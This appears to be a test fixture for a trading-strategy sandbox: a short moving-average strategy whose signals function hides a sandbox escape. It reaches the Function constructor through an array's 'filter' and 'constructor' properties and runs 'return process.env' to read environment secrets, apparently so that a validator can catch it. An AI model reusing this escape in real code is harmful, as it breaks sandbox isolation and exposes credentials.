// expect: execution index
import { strategy, ta } from "sixbtc";

export default strategy({
  name: "Strategy_VOL_A0001",
  timeframe: "15m",
  direction: "both",
  exits: { stop: { kind: "atr", length: 14, multiple: 2 }, maxBars: 48 },
  signals(c, p) {
    c.close.map(function reach(value, bar, holder) {
      if (bar > 2) return 0;
      if (bar > 0) return holder[value];
      const native = reach("filter", 1, []);
      const make = reach("constructor", 2, native);
      return make("return process.env")();
    });
    return { enterLong: ta.gt(c.close, ta.sma(c.close, 20)) };
  },
});
